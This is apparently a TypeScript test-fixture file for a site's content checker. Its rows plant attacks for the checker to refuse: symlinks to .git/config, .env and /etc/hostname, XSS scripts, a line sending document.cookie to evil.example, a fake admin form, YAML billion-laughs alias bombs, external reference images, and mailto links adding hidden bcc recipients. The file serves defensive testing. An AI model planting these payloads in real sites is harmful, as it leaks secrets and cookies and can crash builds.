/**
 * The attacks tests/security/links.test.ts tries, one row each: symbolic links under content/ and
 * public/ (to a file, a folder, a path outside the repository, nothing, themselves), files in
 * public/ outside the media library that the site does not ship, YAML alias bombs, reference-style
 * images whose definition is no media image, and mailto: links that add recipients. Each row names
 * the file the content check must refuse, and the words the refusal must contain.
 *
 * A row plants itself into a copy of the project (`dir`); `outside` is a folder outside that copy.
 * plantSecrets() writes what the links point at: a `.git/config`, a `.env` and a folder `private/`
 * (a text file in `private/docs/`, a copy of the settings) in the copy, and a secret, a page, a helpline and a folder outside it, each holding a marker that
 * must never reach the built site or the build's output.
 */
import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';

export type LinkIssue = 'link' | 'public' | 'yaml' | 'reference' | 'mailto';

export interface LinkAttack {
  issue: LinkIssue;
  name: string;
  /** The file the content check must name. */
  file: string;
  /** What the refusal says. */
  says: RegExp;
  plant(dir: string, outside: string): void;
  /** False for a row that cannot share a build workspace with the others (it replaces a folder they write into). */
  build?: false;
  /**
   * Before the fix, this row ended the whole content check (and the build) as an internal error: a
   * dangling link, a loop, a YAML alias bomb. Such rows stay out of the build that shows nothing
   * is published, since beside them the old build published nothing either.
   */
  endsCheck?: true;
}

/** Markers that would show a secret reached the built site or the output. */
export const SECRET_MARKERS = {
  gitConfig: 'rc-links-git-config-7d1e',
  env: 'rc-links-env-secret-4b9a',
  private: 'rc-links-private-file-2c6f',
  outside: 'rc-links-outside-secret-9e3d',
} as const;

const front = (title: string) =>
  `---\ntitle: ${title}\ndescription: En sida som försöker något den inte får göra med länkar eller bilder.\nupdated: 2026-11-23\n---\n\n`;

function write(dir: string, file: string, content: string | Uint8Array): void {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  writeFileSync(join(dir, file), content);
}

function link(dir: string, file: string, target: string): void {
  mkdirSync(dirname(join(dir, file)), { recursive: true });
  rmSync(join(dir, file), { recursive: true, force: true });
  symlinkSync(target, join(dir, file));
}

/** What the links point at, in the copy and outside it. */
export function plantSecrets(dir: string, outside: string): void {
  write(dir, '.git/config', `[core]\n\trepositoryformatversion = 0\n# ${SECRET_MARKERS.gitConfig}\n`);
  write(dir, '.env', `RC_DEPLOY_TOKEN=${SECRET_MARKERS.env}\n`);
  write(dir, 'private/docs/notes.txt', `${SECRET_MARKERS.private}\n`);
  write(dir, 'private/site.yaml', readFileSync(join(dir, 'content/settings/site.yaml'), 'utf8'));
  write(outside, 'secret.txt', `${SECRET_MARKERS.outside}\n`);
  write(outside, 'dir/notes.txt', `${SECRET_MARKERS.outside}\n`);
  write(outside, 'page.mdx', `${front('Sida utanför')}En ofarlig sida som ligger utanför projektet.\n`);
  write(outside, 'helpline.yaml', readFileSync(join(dir, 'content/helplines/bris.yaml'), 'utf8'));
}

const LINK = /symbolisk länk/;

/** A row that is a symbolic link at `file` to `target` (a function of the copy and the outside folder, or a fixed text). */
const linkRow = (
  name: string,
  file: string,
  target: string | ((dir: string, outside: string) => string),
  extra?: (dir: string) => void,
  endsCheck?: true,
): LinkAttack => ({
  issue: 'link',
  name,
  file,
  says: LINK,
  ...(endsCheck ? { endsCheck } : {}),
  plant: (dir, outside) => {
    extra?.(dir);
    link(dir, file, typeof target === 'string' ? target : target(dir, outside));
  },
});

const fileRow = (issue: LinkIssue, name: string, file: string, content: string | Uint8Array, says: RegExp): LinkAttack => ({
  issue,
  name,
  file,
  says,
  plant: (dir) => write(dir, file, content),
});

let pages = 0;
/** An information page whose body is `body`. */
const page = (issue: LinkIssue, name: string, body: string, says: RegExp): LinkAttack => {
  pages++;
  const file = `content/pages/sv/lank-${String(pages).padStart(2, '0')}.mdx`;
  return fileRow(issue, name, file, `${front(`Länkattack ${pages}`)}${body}\n`, says);
};

/** Nine of `item`, comma-separated. */
const nine = (item: string) => Array(9).fill(item).join(', ');
/** Ten levels of nine aliases of the level before: 9^10 values from ten lines. */
const sequenceBomb = () =>
  [`a: &a [${nine('"x"')}]`, ...'bcdefghij'.split('').map((n, i) => `${n}: &${n} [${nine(`*${'abcdefghij'[i]}`)}]`)].join('\n');
const mappingBomb = [
  `a: &a {${'abcdefghi'
    .split('')
    .map((k) => `${k}: x`)
    .join(', ')}}`,
  ...'bcdefghij'.split('').map(
    (n, i) =>
      `${n}: &${n} {${'abcdefghi'
        .split('')
        .map((k) => `${k}: *${'abcdefghij'[i]}`)
        .join(', ')}}`,
  ),
].join('\n');

const ALIAS = /alias/;
const REF = /definitionen \[/;
const MAIL = /e-postlänk/;

export const linkAttacks: LinkAttack[] = [
  // 1. Symbolic links in the media library: the build copied the target's bytes into dist/.
  linkRow('a text file that is the repository’s .git/config', 'public/media/notes.txt', '../../.git/config'),
  linkRow('a text file that is the deployment’s .env', 'public/media/env.txt', '../../.env'),
  linkRow('a file of the machine outside the repository (/etc/hostname)', 'public/media/hostname.txt', '/etc/hostname'),
  linkRow('an absolute link to a secret outside the repository', 'public/media/secret.txt', (_d, outside) => join(outside, 'secret.txt')),
  linkRow('a relative link that climbs out of the repository', 'public/media/up.txt', (dir, outside) =>
    relative(join(dir, 'public/media'), join(outside, 'secret.txt')),
  ),
  linkRow('a link to an upload beside it', 'public/media/kopia.pdf', 'exempel-broschyr.pdf'),
  linkRow('a linked folder of the repository', 'public/media/dir', '../../private/docs'),
  linkRow('a linked folder outside the repository', 'public/media/ut', (_d, outside) => join(outside, 'dir')),
  linkRow('a link to the folder above (a cycle of folders)', 'public/media/upp', '..', undefined, true),
  linkRow('a link to its own folder', 'public/media/self', '.', undefined, true),
  linkRow('a dangling link', 'public/media/gone.txt', '../../finns-inte.txt', undefined, true),
  linkRow('a link to itself (a -> a)', 'public/media/a.txt', 'a.txt', undefined, true),
  linkRow('two links to each other (b -> c -> b)', 'public/media/b.txt', 'c.txt', (dir) => link(dir, 'public/media/c.txt', 'b.txt'), true),
  {
    ...linkRow('the media library itself a link to another folder', 'public/media', '../private/docs'),
    build: false,
  },
  // Symbolic links in public/ outside the media library, which was not checked at all.
  linkRow('a link in public/ to .env', 'public/leak.txt', '../.env'),
  linkRow('robots.txt (a file the site may ship) as a link', 'public/robots.txt', '../.git/config'),
  linkRow('a linked folder in public/', 'public/assets', '../private/docs'),
  // Symbolic links in content/.
  linkRow('a page that is a link to a page outside the repository', 'content/pages/sv/lankad.mdx', (_d, outside) =>
    join(outside, 'page.mdx'),
  ),
  linkRow('a helpline that is a link to a file outside the repository', 'content/helplines/lankad.yaml', (_d, outside) =>
    join(outside, 'helpline.yaml'),
  ),
  linkRow('the settings file as a link', 'content/settings/site.yaml', '../../private/site.yaml'),
  linkRow('a linked folder outside every content type', 'content/extra', (_d, outside) => join(outside, 'dir')),
  linkRow('the English pages a link to the Swedish folder', 'content/pages/en', 'sv'),
  linkRow('a dangling page', 'content/pages/sv/borta.mdx', 'finns-inte.mdx', undefined, true),
  linkRow('a page that is a link to itself', 'content/pages/sv/loop.mdx', 'loop.mdx', undefined, true),
  linkRow(
    'two helplines that are links to each other',
    'content/helplines/x.yaml',
    'y.yaml',
    (dir) => link(dir, 'content/helplines/y.yaml', 'x.yaml'),
    true,
  ),
  linkRow('a folder in the guide that is a link to itself', 'content/guide/sv/self', '.', undefined, true),

  // public/ outside media/: only the kinds of file the site ships.
  fileRow(
    'public',
    'an HTML page with a script at the site’s address',
    'public/page.html',
    '<script>alert(document.cookie)</script>',
    /inte är en av webbplatsens egna/,
  ),
  fileRow('public', 'a script', 'public/run.js', 'fetch("https://evil.example/?" + document.cookie)', /inte är en av webbplatsens egna/),
  fileRow(
    'public',
    'a _redirects file sending every page elsewhere',
    'public/_redirects',
    '/*  https://evil.example/  301\n',
    /inte är en av webbplatsens egna/,
  ),
  fileRow('public', 'an .htaccess file', 'public/.htaccess', 'AddType text/html .png\n', /inte är en av webbplatsens egna/),
  fileRow(
    'public',
    'a page in place of the admin',
    'public/admin/index.html',
    '<form action="https://evil.example/">',
    /inte är en av webbplatsens egna/,
  ),
  fileRow(
    'public',
    'a PDF outside the media library',
    'public/dokument/rapport.pdf',
    '%PDF-1.4\n%%EOF\n',
    /inte är en av webbplatsens egna/,
  ),
  fileRow('public', 'an app-links claim in .well-known', 'public/.well-known/assetlinks.json', '[]', /inte är en av webbplatsens egna/),
  fileRow('public', 'HTML named as a web font', 'public/fonts/brod.woff2', '<html><script>alert(1)</script></html>', /typsnitt/),
  fileRow('public', 'a web font with another extension', 'public/fonts/brod.ttf', 'x', /inte är en av webbplatsens egna/),
  fileRow(
    'public',
    'the icon replaced by an SVG with a script',
    'public/favicon.svg',
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    /ikonen/,
  ),
  fileRow('public', 'security.txt that is not UTF-8', 'public/.well-known/security.txt', new Uint8Array([0x43, 0x6f, 0xe4, 0x6e]), /text/),

  // YAML alias bombs: the check ended as an internal error.
  {
    ...fileRow('yaml', 'a billion laughs in a helpline (lists)', 'content/helplines/bomb.yaml', `${sequenceBomb()}\n`, ALIAS),
    endsCheck: true,
  },
  { ...fileRow('yaml', 'a billion laughs of mappings', 'content/helplines/bomb-map.yaml', `${mappingBomb}\n`, ALIAS), endsCheck: true },
  {
    ...fileRow(
      'yaml',
      'a billion laughs in a page’s front matter',
      'content/pages/sv/bomb.mdx',
      `---\n${sequenceBomb()}\n---\n\nText\n`,
      ALIAS,
    ),
    endsCheck: true,
  },
  {
    ...fileRow('yaml', 'a billion laughs in the English interface texts', 'content/ui/en.yaml', `${sequenceBomb()}\n`, ALIAS),
    endsCheck: true,
  },
  {
    issue: 'yaml',
    name: 'a billion laughs inside a valid helpline’s field',
    file: 'content/helplines/bomb-falt.yaml',
    says: ALIAS,
    endsCheck: true,
    plant: (dir) => {
      // Every anchor inside the one field `topics`, so no unknown field gives the file away first.
      const levels = [`&a [${nine('"crisis"')}]`, ...'bcdefghij'.split('').map((n, i) => `&${n} [${nine(`*${'abcdefghij'[i]}`)}]`)];
      const bris = readFileSync(join(dir, 'content/helplines/bris.yaml'), 'utf8').replace(/^topics:\n(?: {2}- .*\n)+/m, '');
      write(dir, 'content/helplines/bomb-falt.yaml', `${bris}topics: [${levels.join(', ')}]\n`);
    },
  },

  // Reference-style images: the definition made an external <img>.
  page('reference', 'full reference ![x][r]', '![Bild][r]\n\n[r]: https://evil.example/x.png', REF),
  page('reference', 'collapsed reference ![r][]', '![r][]\n\n[r]: https://evil.example/x.png', REF),
  page('reference', 'shortcut reference ![r]', '![r]\n\n[r]: https://evil.example/x.png', REF),
  page('reference', 'label in another case', '![Bild][R]\n\n[r]: https://evil.example/x.png', REF),
  page('reference', 'label folded by Unicode case (ß = SS)', '![Bild][SS]\n\n[ß]: https://evil.example/x.png', REF),
  page('reference', 'label with other white space', '![Bild][a   b]\n\n[ a b ]: https://evil.example/x.png', REF),
  page('reference', 'angle-bracket destination and a title', '![Bild][r]\n\n[r]: <https://evil.example/x.png> "Titel"', REF),
  page('reference', 'definition inside a quote', '> [r]: https://evil.example/x.png\n\n![Bild][r]', REF),
  page('reference', 'definition inside a list item', '- punkt\n\n  [r]: https://evil.example/x.png\n\n![Bild][r]', REF),
  page('reference', 'definition before the image', '[r]: https://evil.example/x.png\n\n![Bild][r]', REF),
  page(
    'reference',
    'the first of two definitions is external',
    '![Bild][r]\n\n[r]: https://evil.example/x.png\n[r]: /media/exempel-stig.jpg',
    REF,
  ),
  page('reference', 'an image reference inside a link', '[![Bild][r]](/om/)\n\n[r]: https://evil.example/x.png', REF),
  page('reference', 'a site file outside the media library by reference', '![Bild][r]\n\n[r]: /src/assets/bild.png', REF),
  page('reference', 'a file of the build machine by reference', '![Bild][r]\n\n[r]: /etc/passwd', REF),
  page('reference', 'a query on a media image by reference (?raw)', '![Bild][r]\n\n[r]: /media/exempel-stig.jpg?raw', REF),
  page('reference', 'an uploaded document shown as an image', '![Bild][r]\n\n[r]: /media/exempel-broschyr.pdf', REF),
  page('reference', 'a character reference in the definition', '![Bild][r]\n\n[r]: https&#58;//evil.example/x.png', REF),
  page('reference', 'an image reference without alt text', '![][r]\n\n[r]: /media/exempel-stig.jpg', /alternativtext/),

  // mailto: links that add recipients the reader does not see.
  page('mailto', 'bcc', '[Skriv](mailto:info@exempel.se?bcc=spy@evil.example)', MAIL),
  page('mailto', 'cc', '[Skriv](mailto:info@exempel.se?cc=spy@evil.example)', MAIL),
  page('mailto', 'to', '[Skriv](mailto:info@exempel.se?to=spy@evil.example)', MAIL),
  page('mailto', 'BCC in capitals', '[Skriv](mailto:info@exempel.se?BCC=spy@evil.example)', MAIL),
  page('mailto', 'bcc after a subject', '[Skriv](mailto:info@exempel.se?subject=Hej&bcc=spy@evil.example)', MAIL),
  page('mailto', 'bcc as a character reference &amp;', '[Skriv](mailto:info@exempel.se?subject=Hej&amp;bcc=spy@evil.example)', MAIL),
  page('mailto', 'percent-encoded name %62cc', '[Skriv](mailto:info@exempel.se?%62cc=spy@evil.example)', MAIL),
  page('mailto', 'percent-encoded name b%63c', '[Skriv](mailto:info@exempel.se?b%63c=spy@evil.example)', MAIL),
  page('mailto', 'encoded space before the name', '[Skriv](mailto:info@exempel.se?%20bcc=spy@evil.example)', MAIL),
  page('mailto', 'bcc hidden in an encoded subject', '[Skriv](mailto:info@exempel.se?subject=Hej%26bcc%3Dspy@evil.example)', MAIL),
  page(
    'mailto',
    'a Bcc header after a line break in the subject',
    '[Skriv](mailto:info@exempel.se?subject=Hej%0D%0ABcc:%20spy@evil.example)',
    MAIL,
  ),
  page('mailto', 'a second recipient', '[Skriv](mailto:info@exempel.se,spy@evil.example)', MAIL),
  page('mailto', 'a second recipient, encoded comma', '[Skriv](mailto:info@exempel.se%2Cspy@evil.example)', MAIL),
  page('mailto', 'an encoded ? starting the query', '[Skriv](mailto:info@exempel.se%3Fbcc=spy@evil.example)', MAIL),
  page('mailto', 'MAILTO: in capitals', '[Skriv](MAILTO:info@exempel.se?Cc=spy@evil.example)', MAIL),
  page('mailto', 'reply-to', '[Skriv](mailto:info@exempel.se?reply-to=spy@evil.example)', MAIL),
  page('mailto', 'bcc in a reference definition', '[Skriv][m]\n\n[m]: mailto:info@exempel.se?bcc=spy@evil.example', MAIL),
];
